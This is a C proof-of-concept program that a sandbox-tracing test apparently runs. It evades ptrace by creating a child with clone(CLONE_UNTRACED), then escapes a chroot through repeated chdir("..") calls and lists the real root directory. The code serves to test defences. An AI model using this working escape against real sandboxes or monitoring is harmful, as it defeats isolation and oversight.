/*
 * escape: the proof of concept of issue 11, run by TestTraceEscape
 * (pkg/image/trace_escape_test.go).
 *
 * Reads /etc/passwd (a file the trace must still report), then makes a child
 * with clone(CLONE_UNTRACED), which ptrace does not follow, and in that child
 * climbs out of the sandbox's root the classic way: chroot into a
 * subdirectory while the working directory stays outside it, chdir("..")
 * until the real root, chroot("."). The child then lists "/" on stderr
 * ("root: NAME" lines) and creates the file argv[1] names. Exits 0 when the
 * child escaped, 1 otherwise.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int escape(const char *marker)
{
	mkdir("/tmp/escape", 0755);
	if (chroot("/tmp/escape") != 0) {
		fprintf(stderr, "escape: chroot(/tmp/escape): %s\n", strerror(errno));
		return 1;
	}
	for (int i = 0; i < 64; i++) {
		chdir("..");
	}
	if (chroot(".") != 0) {
		fprintf(stderr, "escape: chroot(.): %s\n", strerror(errno));
		return 1;
	}
	DIR *d = opendir("/");
	if (d != NULL) {
		struct dirent *e;
		while ((e = readdir(d)) != NULL) {
			fprintf(stderr, "root: %s\n", e->d_name);
		}
		closedir(d);
	}
	int fd = open(marker, O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (fd < 0) {
		fprintf(stderr, "escape: creating %s: %s\n", marker, strerror(errno));
		return 1;
	}
	write(fd, "escaped\n", 8);
	close(fd);
	fprintf(stderr, "escape: wrote %s\n", marker);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: escape MARKER\n");
		return 2;
	}
	FILE *f = fopen("/etc/passwd", "r");
	if (f != NULL) {
		fclose(f);
	}
	long pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
	if (pid < 0) {
		fprintf(stderr, "escape: clone(CLONE_UNTRACED): %s\n", strerror(errno));
		return 1;
	}
	if (pid == 0) {
		fflush(stderr);
		_exit(escape(argv[1]));
	}
	int status;
	if (waitpid(pid, &status, 0) < 0 || !WIFEXITED(status)) {
		fprintf(stderr, "escape: the child did not exit\n");
		return 1;
	}
	return WEXITSTATUS(status);
}
